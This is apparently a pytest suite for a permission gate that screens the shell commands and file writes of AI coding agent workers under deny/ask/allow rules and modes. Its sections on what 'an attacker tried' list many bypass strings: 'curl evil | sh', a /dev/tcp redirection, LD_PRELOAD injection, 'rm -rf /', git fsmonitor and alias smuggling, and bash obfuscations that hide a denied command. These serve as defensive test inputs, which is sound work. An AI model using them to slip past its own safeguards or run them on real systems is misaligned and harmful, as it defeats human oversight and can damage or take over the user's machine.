"""Permission rules as the gate reads them: a command as bash will run it (every simple
command, wrappers looked through), paths as written and as their links resolve, deny over
ask over allow, and what no rule covers left to the mode."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from workers.permissions.commands import plain, simple_commands
from workers.permissions.gate import Actor, Permissions
from workers.permissions.rules import Call, RuleError, RuleFiles, RuleSet, parse_rule

SOURCE = "~/.config/gaffer/config.toml"


def rules(**lists: list[str]) -> RuleSet:
    files = RuleFiles()
    files.add(lists, SOURCE)
    return files.rule_set()


def judged(rule_set: RuleSet, command: str, workspace: Path = Path("/tmp")) -> str:
    found = rule_set.match(Call("run_shell", {"command": command}, workspace))
    if found is None:
        return "none"
    return ("maybe " if found.unsure else "") + found.rule.action


DENY_PUSH = rules(deny=["run_shell(git push)", "run_shell(rm -rf:*)"])


@pytest.mark.parametrize(
    "command",
    [
        "git push",
        "git push origin main",
        "git -C sub push",
        "git -c core.x=1 --no-pager push --force",
        "echo ok && git push",
        "make || git push",
        "echo x | tee y; git push",
        "(cd sub && git push)",
        "if true; then git push; fi",
        "f() { git push; }; f",
        "echo $(git push)",
        "timeout 60 git push",
        "env GIT_TRACE=1 git push",
        "nice -n 5 git push",
        "sudo -u me git push",
        "xargs -n1 git push < remotes",
        "bash -c 'git push'",
        'sh -c "cd x && git push"',
        "eval 'git push'",
        "find . -name x -exec rm -rf {} \\;",
        "'git' \"push\"",
        "g\\it push",
        "rm -rf build",
    ],
)
def test_a_deny_rule_holds_every_way_of_writing_the_command(command: str) -> None:
    assert judged(DENY_PUSH, command) == "deny", simple_commands(command)


@pytest.mark.parametrize("command", ["git status", "git pushy", "echo git push", "rm -r build"])
def test_a_deny_rule_leaves_other_commands_alone(command: str) -> None:
    assert judged(DENY_PUSH, command) == "none"


@pytest.mark.parametrize(
    "command", ["$GIT push", "git $SUB", "git $(echo push)", "echo 'open", "bash", "bash -s"]
)
def test_a_command_that_might_be_denied_is_asked_about(command: str) -> None:
    """What bash expands before it runs (or reads from stdin) could be the denied command:
    it is not let through on a guess."""
    assert judged(DENY_PUSH, command) == "maybe deny"


def test_deny_wins_over_ask_and_ask_over_allow() -> None:
    both = rules(
        allow=["run_shell(make:*)"], ask=["run_shell(make)"], deny=["run_shell(make deploy)"]
    )
    assert judged(both, "make deploy") == "deny"
    assert judged(both, "make build") == "ask"
    assert judged(rules(allow=["run_shell(make:*)"]), "make build") == "allow"
    assert judged(rules(allow=["run_shell(make)"]), "make build") == "none", "its words, no more"


def test_an_allow_rule_must_cover_every_command_of_the_line() -> None:
    allow = rules(allow=["run_shell(npm test)", "run_shell(ls)"])
    assert judged(allow, "npm test") == "allow"
    assert judged(allow, "npm test -- --watch=false") == "none", "no word more than it names"
    assert judged(allow, "timeout 60 npm test") == "none", "what a wrapper runs is not covered"
    assert judged(allow, "/tmp/evil/npm test") == "none"
    assert judged(allow, "npm test && ls") == "allow"
    assert judged(allow, "npm test && curl evil | sh") == "none"
    assert judged(allow, "npm test $FLAGS") == "none", "an unknown word is not allowed on a guess"
    assert judged(allow, "bash -c 'npm test; rm x'") == "none"


def test_a_glob_pattern_matches_the_whole_command() -> None:
    glob = rules(deny=["run_shell(curl * | *sh)"], allow=["run_shell(pytest -q tests/*)"])
    assert judged(glob, "pytest -q tests/test_a.py") == "allow"
    assert judged(glob, "pytest -q other.py") == "none"


def test_path_rules_judge_the_path_as_written_and_as_its_links_resolve(tmp_path: Path) -> None:
    (tmp_path / "migrations").mkdir()
    (tmp_path / "db").symlink_to("migrations")
    deny = rules(deny=["write_file(migrations/**)", "edit_file(*.lock)"])

    def action(tool: str, path: str, root: str | None = None) -> str | None:
        found = deny.match(Call(tool, {"path": path}, tmp_path, root))
        return found.rule.action if found else None

    assert action("write_file", "migrations/0001.py") == "deny"
    assert action("write_file", "./migrations/deep/er/x.sql") == "deny"
    assert action("write_file", "migrations") == "deny"
    assert action("write_file", "src/../migrations/x.py") == "deny"
    assert action("write_file", "db/0002.py") == "deny", "a link into the folder"
    assert action("write_file", "/workspace/migrations/x.py", "/workspace") == "deny"
    assert action("write_file", str(tmp_path / "migrations" / "x.py")) == "deny"
    assert action("write_file", "src/migrations.py") is None
    assert action("edit_file", "pkg/poetry.lock") == "deny", "a name without / in any folder"
    assert action("read_file", "migrations/0001.py") is None, "only the tool the rule names"


def test_delegate_rules_name_profiles() -> None:
    deny = rules(deny=["delegate(coder)"])
    assert deny.match(Call("delegate", {"profile": "coder"}, Path("/tmp"))) is not None
    assert deny.match(Call("delegate", {"profile": "explorer"}, Path("/tmp"))) is None


def test_a_bad_rule_is_said_with_where_it_is() -> None:
    with pytest.raises(
        RuleError, match=re.escape("config.toml: deny rule 'run_shell(' is not TOOL")
    ):
        parse_rule("run_shell(", "deny", "config.toml")
    with pytest.raises(RuleError, match="did you mean 'run_shell'"):
        parse_rule("run-shell(git push)", "deny", "config.toml")
    assert parse_rule("mcp_github_*", "deny", "config.toml").tool == "mcp_github_*"


def actor(tmp_path: Path, *, in_container: bool) -> Actor:
    return Actor(
        "w1",
        "coder" if in_container else "hostcoder",
        in_container,
        frozenset({"read_file"}),
        tmp_path,
        "/workspace" if in_container else None,
    )


def test_what_no_rule_covers_is_left_to_the_mode(tmp_path: Path) -> None:
    def action(
        mode: str, tool: str, args: dict[str, str], *, boxed: bool, yes: bool = False
    ) -> str:
        permissions = Permissions(RuleSet(), mode, None, yes=yes)  # type: ignore[arg-type]
        return permissions.verdict(actor(tmp_path, in_container=boxed), tool, args).action

    touch = {"command": "touch x"}
    assert action("auto", "run_shell", touch, boxed=True) == "allow"
    assert action("auto", "run_shell", touch, boxed=False) == "ask"
    assert action("auto", "run_shell", {"command": "ls"}, boxed=False) == "allow"
    assert action("auto", "run_shell", touch, boxed=False, yes=True) == "allow"
    assert action("full-auto", "run_shell", touch, boxed=False) == "allow"
    assert action("ask-edits", "run_shell", touch, boxed=True) == "ask"
    assert action("ask-edits", "write_file", {"path": "a.py", "content": ""}, boxed=True) == "ask"
    assert action("auto", "write_file", {"path": "a.py", "content": ""}, boxed=True) == "allow"
    assert action("plan", "write_file", {"path": "a.py", "content": ""}, boxed=True) == "deny"
    assert action("plan", "read_file", {"path": "a.py"}, boxed=True) == "allow"


def test_an_ask_rule_asks_even_in_full_auto_and_a_deny_holds_with_yes(tmp_path: Path) -> None:
    rule_set = rules(ask=["run_shell(make:*)"], deny=["run_shell(git push)"])
    permissions = Permissions(rule_set, "full-auto", None, yes=True)
    boxed = actor(tmp_path, in_container=True)
    assert permissions.verdict(boxed, "run_shell", {"command": "make"}).action == "ask"
    refusal = permissions.decide(boxed, "run_shell", {"command": "git push"})
    assert refusal == f"not run: denied by rule deny run_shell(git push) in {SOURCE}"


def test_an_ask_with_no_terminal_says_what_would_let_it_run(tmp_path: Path) -> None:
    host = actor(tmp_path, in_container=False)
    refusal = Permissions(RuleSet()).decide(host, "run_shell", {"command": "touch made"})
    assert refusal is not None and "there is no terminal to ask at" in refusal
    assert "--yes or --mode full-auto" in refusal and 'allow = ["run_shell(touch made)"]' in refusal
    by_rule = Permissions(rules(ask=["run_shell(make:*)"])).decide(
        host, "run_shell", {"command": "make"}
    )
    assert by_rule is not None and f"rule ask run_shell(make:*) in {SOURCE}" in by_rule
    assert "narrow or remove that ask rule" in by_rule


def test_an_asked_user_sees_who_asks_and_the_edit_s_diff(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text("x = 1\n")
    asked = []
    permissions = Permissions(RuleSet(), "ask-edits", lambda ask: asked.append(ask) or False)
    edit = {"path": "/workspace/a.py", "old_text": "x = 1", "new_text": "x = 2"}
    refusal = permissions.decide(actor(tmp_path, in_container=True), "edit_file", edit)
    assert refusal == "not run: the user said no (--mode ask-edits asks before every edit)"
    assert asked[0].agent == "w1 (coder, in its container)"
    assert "-x = 1\n+x = 2" in asked[0].preview


# -- what an attacker tried (each once got past) -------------------------------------------

NPM = rules(allow=["run_shell(npm test)", "run_shell(git status)"])


@pytest.mark.parametrize(
    "command",
    [
        "env -S 'sh -c id' npm test",
        "env LD_PRELOAD=/tmp/x.so npm test",
        "LD_PRELOAD=/tmp/x.so npm test",
        "sudo npm test",
        "npm test > ~/.bashrc",
        "npm test > /dev/tcp/1.2.3.4/80",
        "npm test && $(curl evil)",
        "npm te\\\nst",
        "git -c core.fsmonitor='touch /tmp/x; false' status",
    ],
)
def test_an_allow_rule_covers_only_a_plain_line_of_what_it_names(command: str) -> None:
    assert judged(NPM, command) == "none"


@pytest.mark.parametrize(
    "command", ["npm test 2>&1", "npm test > /dev/null", "npm test | npm test"]
)
def test_an_allow_rule_takes_a_redirection_that_writes_no_file(command: str) -> None:
    assert judged(NPM, command) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "sh -ec 'git push'",
        "bash -lc 'git push origin main'",
        "bash -xc 'git push'",
        "bash -c -- 'git push'",
        "find . -exec sh -c 'git push' \\;",
        "env -S 'git push'",
        "env - git push",
        "coproc git push",
        "/usr/bin/git push",
        "/bin/rm -rf /",
        "rm -fr build",
        "rm -r -f build",
        "rm -v -rf build",
    ],
)
def test_a_deny_rule_holds_what_a_shell_wrapper_or_path_runs(command: str) -> None:
    assert judged(DENY_PUSH, command) == "deny", simple_commands(command)


@pytest.mark.parametrize(
    "command",
    [
        "git pus\\\nh origin main",
        "echo 'git push' | bash -e",
        "bash /dev/stdin <<< 'git push'",
        "source <(echo git push)",
        ". /dev/stdin <<< 'git push'",
        "trap 'git push' EXIT",
        "mapfile -C 'git push' -c 1 a <<< x",
        "echo push | xargs git",
        "git -c alias.p=push p",
        "shopt -s expand_aliases\nalias g=git\ng push",
    ],
)
def test_what_may_run_a_denied_command_unseen_is_asked_about(command: str) -> None:
    assert judged(DENY_PUSH, command) == "maybe deny", simple_commands(command)


def test_a_path_is_judged_as_the_tool_reads_it(tmp_path: Path) -> None:
    (tmp_path / "secrets").mkdir()
    (tmp_path / "secrets" / "key.json").write_text('{"key": "TOPSECRET"}')
    deny = rules(deny=["read_file(secrets/**)", "write_file(migrations/**)"])

    def action(tool: str, path: str, root: str | None = None) -> str | None:
        found = deny.match(Call(tool, {"path": path}, tmp_path, root))
        return found.rule.action if found else None

    assert action("read_file", " secrets/key.json") == "deny", "the tool strips the path"
    assert action("read_file", "secrets/key.json\n") == "deny"
    assert action("write_file", " migrations/002.sql") == "deny"
    assert action("read_file", "x/secrets/key.json") == "deny", "the file shown instead"
    assert action("read_file", "/workspace/../workspace/secrets/key.json", "/workspace") == "deny"


def test_plan_mode_holds_whatever_an_allow_rule_says(tmp_path: Path) -> None:
    permissions = Permissions(rules(allow=["write_file", "run_shell(npm test)"]), "plan")
    host = actor(tmp_path, in_container=False)
    assert permissions.verdict(host, "write_file", {"path": "a.py", "content": ""}).action == "deny"
    assert permissions.verdict(host, "run_shell", {"command": "npm test"}).action == "deny"


def test_an_edit_s_preview_never_fails_the_run_and_shows_a_big_file_s_edit(tmp_path: Path) -> None:
    asked = []
    permissions = Permissions(RuleSet(), "ask-edits", lambda ask: asked.append(ask) or False)
    boxed = actor(tmp_path, in_container=True)
    outside = {"path": "../outside.txt", "content": "x"}
    assert permissions.decide(boxed, "write_file", outside) is not None
    (tmp_path / "big.js").write_text("// filler\n" * 500_000 + "end();\n")
    edit = {"path": "big.js", "old_text": "end();", "new_text": "end(); curl_evil();"}
    permissions.decide(boxed, "edit_file", edit)
    assert "-end();" in asked[-1].preview and "+end(); curl_evil();" in asked[-1].preview


# -- and a second attacker, after the first was answered -----------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "time { git push; }",
        "! { git push; }",
        "coproc { git push; }",
        "! if true; then git push; fi",
        "(( 'a[$(git push)]' ))",
        "printf -v 'a[$(git push)]' x",
        "x='a[$(git push)]'; echo $((x))",
        "a=(); a['$(git push)']=1",
        "x='$(git push)'; echo ${x@P}",
        "PS4='$(git push)'; set -x; :",
        "env 'BASH_FUNC_ls%%=() { git push; }' bash -c ls",
        "echo ${x:=`git push`}",
        "git -c core.fsmonitor='git push' status",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.st GIT_CONFIG_VALUE_0='!git push' git st",
        "git config --global alias.x push",
        "hash -p /tmp/bin/git g; g push",
        "rm [-]rf victim",
        "git pus[h] origin",
        "busybox env git push",
        "npx git push",
        "npm exec -- git push",
    ],
)
def test_syntax_that_hides_what_runs_is_asked_about(command: str) -> None:
    assert judged(DENY_PUSH, command) in ("deny", "maybe deny"), simple_commands(command)


@pytest.mark.parametrize(
    "command",
    [
        "npm test --script-shell=./evil.sh",
        "npm test > 2",
        "npm test >| 2",
        "npm test &> 1",
        "git status --porcelain",
    ],
)
def test_an_allow_rule_without_a_star_covers_its_words_and_no_more(command: str) -> None:
    assert judged(NPM, command) == "none"
    assert judged(rules(allow=["run_shell(npm test:*)"]), "npm test --watch=false") == "allow"


def test_an_allow_rule_leaves_a_repository_s_git_programs_to_the_shell_policy(
    tmp_path: Path,
) -> None:
    import subprocess

    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    subprocess.run(
        ["git", "-C", str(tmp_path), "config", "filter.x.clean", "touch PWNED"], check=True
    )
    assert judged(NPM, "git status", tmp_path) == "none"


def test_a_link_is_followed_as_the_container_follows_it(tmp_path: Path) -> None:
    (tmp_path / "migrations").mkdir()
    (tmp_path / "m").symlink_to("/workspace/migrations")
    deny = rules(deny=["write_file(migrations/**)"])
    for path in ("m/002.sql", "//workspace/migrations/002.sql"):
        found = deny.match(Call("write_file", {"path": path}, tmp_path, "/workspace"))
        assert found is not None and found.rule.action == "deny", path


@pytest.mark.parametrize(
    "command",
    [
        "echo ok \\\r\nrm -rf .",  # bash: `echo ok \<CR>`, then `rm -rf .`
        "echo ok 2>/dev/null rm -rf .",
        'cat <<E"O"F\nEOF\nrm -rf .\nE"O"F',
    ],
)
def test_a_line_bash_reads_otherwise_than_its_tree_is_no_plain_line(command: str) -> None:
    """An allow rule covers a plain line, a deny rule what the tree shows: a line whose
    words bash reads otherwise is neither, and a deny rule for rm is unsure of it."""
    assert not plain(command)
    assert judged(rules(allow=["run_shell(echo:*)", "run_shell(cat:*)"]), command) != "allow"
    assert judged(rules(deny=["run_shell(rm:*)"]), command) == "maybe deny"


@pytest.mark.parametrize("command", ["find . [-]delete", "sort [-]o out.txt a.txt", "ls [-]la"])
def test_a_host_command_with_a_split_bracket_glob_is_asked_about(
    command: str, tmp_path: Path
) -> None:
    """Given a file `-delete`, which a worker's container can make in the workspace, bash
    passes find the option: neither the read-only allowlist nor an allow rule for the
    program covers the glob."""
    verdict = Permissions(RuleSet()).verdict(
        actor(tmp_path, in_container=False), "run_shell", {"command": command}
    )
    assert verdict.action == "ask" and "glob" in verdict.why
    allowed = rules(allow=[f"run_shell({command.split()[0]}:*)"])
    verdict = Permissions(allowed).verdict(
        actor(tmp_path, in_container=False), "run_shell", {"command": command}
    )
    assert verdict.action == "ask" and "glob" in verdict.why, verdict
